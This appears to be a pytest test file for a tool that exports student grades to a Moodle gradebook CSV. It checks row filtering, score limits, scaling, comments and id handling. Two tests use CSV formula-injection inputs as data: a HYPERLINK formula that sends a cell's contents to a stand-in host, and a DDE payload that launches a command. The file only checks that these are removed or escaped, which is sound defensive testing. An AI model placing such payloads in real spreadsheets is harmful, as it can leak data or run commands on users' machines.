"""Moodle's gradebook: one bad row undoes its import, so every row must be right."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checker.lms.gradebooks import ExportError, export
from checker.lms.spreadsheet import safe
from checker.lms.systems.moodle import NO_CELL
from checker.text.words import shortened
from tests.lms.importers import tables
from tests.lms.importers.moodle_gradebook import Gradebook, RefusedBatchError, imported
from tests.lms.people import HARD, POINTS, grade, only_file, request

IDS = st.one_of(
    st.sampled_from([each for each in HARD if each.strip()]),
    st.text(st.characters(codec="utf-8", categories=["L", "N", "P"]), min_size=1),
)


def exported(*grades, **more):
    return export("moodle-gradebook", request(*grades, **more))


def test_only_students_with_a_grade_get_a_row():
    found = exported(
        grade("s1", 8.5, email="a@uni.edu"),
        grade("s2", None, email="b@uni.edu"),
        grade("s3", None, handed_in=False, email="c@x"),
    )
    assert found.files == {"moodle-gradebook.csv": b"Email address,Homework 1\r\na@uni.edu,8.5\r\n"}
    assert imported(only_file(found), Gradebook({"a@uni.edu": 1, "b@uni.edu": 2}, {2: 4.0}))[0] == {1: 8.5, 2: 4.0}
    assert found.notes == (
        "Left out, because an answer is still to review: s2.",
        "Left out, because nothing was handed in: s3.",
    )
    assert found.changed == 1
    assert found.steps[2] == "3. Under Identify user by, map from Email address to Email address."


@given(
    st.dictionaries(
        IDS.map(str.strip).filter(lambda text: text not in {"", "0"} and safe(text) == text),
        st.tuples(POINTS, st.booleans()),
        max_size=6,
    ),
    st.booleans(),
)
def test_all_grades_are_imported_and_none_is_erased(people, has_comments):
    users = {id_: number for number, id_ in enumerate(people)}
    old = dict.fromkeys(users.values(), 5.0)
    found = exported(
        *(grade(id_, points, comment="well,\rdone\n" if has_comments else "") for id_, (points, _) in people.items())
    )
    grades, comments = imported(only_file(found), Gradebook(users, old, maximum=10.0))
    assert grades == {users[id_]: 5.0 if points is None else points for id_, (points, _) in people.items()}
    assert comments == {
        users[id_]: "well,\rdone" for id_, (points, _) in people.items() if has_comments and points is not None
    }


def test_grades_above_the_maximum_are_left_out_because_they_would_undo_everything():
    found = exported(grade("a", 101.0, max_points=200), grade("b", 100.0, max_points=200), grade("c", -1.0))
    assert tables.read(only_file(found).decode()) == [["ID number", "Homework 1"], ["b", "100"]]
    assert found.notes == ("Left out, because Moodle refuses all grades if one is not from 0 to 100: a; c.",)
    with pytest.raises(RefusedBatchError, match="gradevaluetoobig"):
        imported(b"ID number,x\na,101\n", Gradebook({"a": 1}))


def test_scaling_is_to_100():
    found = exported(grade("a", 150.0, max_points=200), scale=True)
    assert tables.read(only_file(found).decode())[1] == ["a", "75"]
    assert found.notes == ("Points are scaled to 100, the maximum of a new grade item in Moodle.",)
    with pytest.raises(ExportError, match="no maximum to scale from"):
        exported(grade("a", 1.0, max_points=0), scale=True)


def test_without_all_email_addresses_the_ids_are_used():
    found = exported(grade("a", 1.0, email="a@x"), grade("b", 2.0), column="HW 1")
    assert only_file(found) == b"ID number,HW 1\r\na,1\r\nb,2\r\n"
    assert found.steps[2:4] == (
        "3. Under Identify user by, map from ID number to ID number or Username, whichever your ids are.",
        "4. Under Grade item mappings, map HW 1 to your grade item, and not to a new one.",
    )


def test_comments_are_left_out_unless_everybody_has_one():
    found = exported(grade("a", 1.0, comment="good"), grade("b", 2.0))
    assert only_file(found) == b"ID number,Homework 1\r\na,1\r\nb,2\r\n"
    assert found.notes == (
        "Comments are left out, because not every student has one and Moodle would clear the others.",
    )
    both = exported(grade("a", 1.0, comment="good"), grade("b", 2.0, comment="ok"))
    assert only_file(both) == b"ID number,Homework 1,Feedback\r\na,1,good\r\nb,2,ok\r\n"
    assert "Map Feedback to the feedback for Homework 1." in both.steps[3]


@pytest.mark.parametrize("id_", [" ", "0"])
def test_an_id_that_moodle_takes_for_blank_is_left_out_because_its_grade_would_go_to_the_row_before(id_):
    found = exported(grade("a", 1.0), grade(id_, 2.0), grade("c", 3.0))
    assert imported(only_file(found), Gradebook({"a": 1, "c": 3}))[0] == {1: 1.0, 3: 3.0}
    assert found.notes == (f"Left out, because Moodle takes this id for a blank one: `{id_}`.",)
    assert imported(b"ID number,x\na,1\n0,2\n", Gradebook({"a": 1}))[0] == {1: 2.0}


@pytest.mark.parametrize(
    "id_", ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-1", "@x", "＝1", "\u202es1", "a\x1b[2Jb"]
)
def test_an_id_that_is_no_plain_cell_is_left_out_because_another_one_would_undo_the_import(id_):
    found = exported(grade("a", 1.0), grade(id_, 2.0), grade("c", 3.0))
    assert tables.read(only_file(found).decode()) == [["ID number", "Homework 1"], ["a", "1"], ["c", "3"]]
    assert found.notes == (f"{NO_CELL}: {shortened(id_)}.",)
    assert found.changed == 2


def test_the_title_and_comments_are_no_formulas():
    found = exported(grade("a", 1.0, comment="=1+1"), title="=cmd|' /C calc'!A0")
    assert tables.read(only_file(found).decode()) == [
        ["ID number", "'=cmd|' /C calc'!A0", "Feedback"],
        ["a", "1", "'=1+1"],
    ]
    assert "map '=cmd|' /C calc'!A0 to your grade item" in found.steps[3]


def test_no_two_students_have_one_id():
    found = exported(grade("a", 1.0, email="x@uni.edu"), grade("b", 2.0, email="X@uni.edu"))
    assert imported(only_file(found), Gradebook({"a": 1, "b": 2}))[0] == {1: 1.0, 2: 2.0}
    with pytest.raises(ExportError, match="two ids in the results differ by space only"):
        exported(grade("a", 1.0), grade(" a", 2.0))
